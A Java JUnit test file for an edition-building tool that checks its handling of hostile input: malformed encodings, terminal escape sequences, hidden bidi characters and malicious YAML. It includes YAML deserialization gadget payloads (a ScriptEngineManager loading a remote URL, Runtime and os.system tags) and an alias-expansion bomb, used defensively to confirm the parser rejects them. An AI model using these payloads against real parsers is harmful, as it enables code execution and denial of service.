package org.incipit.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.incipit.cli.Run;
import org.incipit.cli.TestEdition;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Bytes that are no text, and YAML that is more than it seems. */
class StrangeFilesTest {

    private static final List<String> FILES =
            List.of("edition.yaml", "people.yaml", "documents/letter/text.md", "pages/about.md");

    @TempDir
    Path folder;

    private TestEdition edition;

    @BeforeEach
    void anEdition() {
        edition = new TestEdition(folder);
        edition.text("letter", "Dear friend,");
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-32", "ISO-8859-1"})
    void otherEncodingsAreTold(String charset) throws Exception {
        for (String file : FILES) {
            anEdition();
            edition.write(file, "");
            Files.write(edition.content().resolve(file), "title: \u00e9\u0436\n".getBytes(Charset.forName(charset)));
            Run run = edition.build();
            assertEquals(1, run.code(), file + run.err());
            assertTrue(
                    run.err().contains("E0102")
                            || run.err().contains("E0103")
                            || run.err().contains("E0126"),
                    run.err());
        }
    }

    @Test
    void bytesThatAreNoUtf8AreTold() throws Exception {
        for (String hex : List.of("ff", "c0af", "eda080", "f4908080", "e282", "80")) {
            for (String file : FILES) {
                anEdition();
                edition.write(file, "");
                byte[] bytes = new java.math.BigInteger(hex, 16).toByteArray();
                byte[] plain = bytes[0] == 0 ? java.util.Arrays.copyOfRange(bytes, 1, bytes.length) : bytes;
                Files.write(edition.content().resolve(file), plain);
                Run run = edition.build();
                assertEquals(1, run.code(), run.err());
                assertTrue(run.err().contains("E0102"), file + " " + hex + run.err());
            }
        }
    }

    @Test
    void aByteOrderMarkAndLineEndsOfWindowsChangeNothing() throws Exception {
        edition.write("documents/letter/text.md", "---\ntitle: A letter\n---\n\nDear\nfriend,\n\n- one\n- two\n");
        assertEquals(0, edition.build().code());
        String before = edition.page("letter.html").select("article.text").html();

        String text = edition.read("documents/letter/text.md");
        edition.write("documents/letter/text.md", "\uFEFF" + text.replace("\n", "\r\n"));
        edition.write("edition.yaml", "\uFEFF" + edition.read("edition.yaml").replace("\n", "\r\n"));

        assertEquals(0, edition.build().code());
        assertEquals(before, edition.page("letter.html").select("article.text").html());
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 8, 11, 27, 31, 127, 0x85, 0x9b, 0xfffe, 0xfdd0})
    void controlsAreToldAndDoNotReachTheTerminal(int control) {
        edition.text("letter", "Dear " + (char) control + "[2J friend,", "<a" + (char) control + "b>");
        edition.write("people.yaml", "people:\n  - {id: a, name: \"\\x1b[2J\", \"\\x1b]0;x\": y}\n");

        Run run = edition.build();

        assertEquals(1, run.code());
        assertTrue(run.err().chars().noneMatch(c -> c != '\n' && Character.isISOControl(c)), run.err());
    }

    @Test
    void hiddenCharactersAreWarnedOfInTextAndDescription() {
        edition.write(
                "documents/letter/text.md",
                "---\ntitle: \"A \u202eletter\"\n---\n\nDear \u2066friend\u2069, wo\u200brd.\n");

        Run run = edition.build();

        assertEquals(0, run.code());
        assertEquals(2, run.err().split("warning W0129", -1).length - 1, run.err());
        assertTrue(run.err().chars().noneMatch(c -> c == 0x202e), "shown so that they are seen");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "title: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.invalid/\"]]\n",
                "title: !<tag:yaml.org,2002:java.lang.Runtime> x\n",
                "title: !!binary aGVsbG8=\n",
                "title: !!python/object/apply:os.system [\"id\"]\n",
                "&a title: *a\n",
                "title: &a [*a]\n",
                "title: T\nrights: &r {text: *r}\n",
                "title: T\n<<: {editors: [x]}\n",
                "? [a, b]\n: c\n",
                "title: *nowhere\n",
                "--- \ntitle: a\n...\n--- \ntitle: b\n"
            })
    void tagsAndAliasesMakeNothing(String yaml) {
        edition.write("edition.yaml", yaml);

        Run run = assertTimeoutPreemptively(Duration.ofSeconds(30), edition::build);

        assertTrue(run.code() <= 1, run.err());
        assertFalse(run.err().contains("Incipit failed"), run.err());
    }

    @Test
    void aBombOfAliasesIsDefused() {
        StringBuilder bomb = new StringBuilder("title: T\neditors: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 40; i++) {
            bomb.append("k")
                    .append(i)
                    .append(": &a")
                    .append(i)
                    .append(" [")
                    .append(("*a" + (i - 1) + ", ").repeat(9))
                    .append("x]\n");
        }
        bomb.append("publisher: *a39\n");
        edition.write("edition.yaml", bomb.toString());
        edition.write("documents/letter/text.md", "---\n" + bomb + "---\n\nWords.\n");

        Run run = assertTimeoutPreemptively(Duration.ofSeconds(30), edition::build);

        assertEquals(1, run.code(), run.err());
    }

    /** What the fuzzer found: the blank is no part of the sentence, and was part of the name. */
    @Test
    void aNameMayEndInABlankAtTheEndOfASentence() {
        edition.write("people.yaml", "people:\n  - {id: ana, name: Ana}\n");
        edition.text("letter", "Dear [Ana {--x--} ](person:ana)", "A word.");

        Run run = edition.build();

        assertEquals(0, run.code(), run.err());
        assertEquals(
                1,
                edition.page("people/ana.html")
                                        .select("a[href*='letter.html#p1']")
                                        .size()
                                > 0
                        ? 1
                        : 0);
    }

    @ParameterizedTest
    @CsvSource({"Ren\u00e9e,Rene\u0301e", "Captain Holm,Captain\u00a0Holm"})
    void aNameIsFoundHoweverItsLettersAreComposedAndItsWordsHeldTogether(String form, String written)
            throws IOException {
        edition.write("people.yaml", "people:\n  - {id: ana, name: Ana, forms: [\"" + form + "\"]}\n");
        edition.text("letter", "Dear " + written + ",");

        Run run = edition.build();

        assertEquals("", run.err());
        assertEquals(
                List.of(written),
                edition.page("letter.html").select("article.text a.person").stream()
                        .map(Element::wholeText)
                        .toList());
    }
}
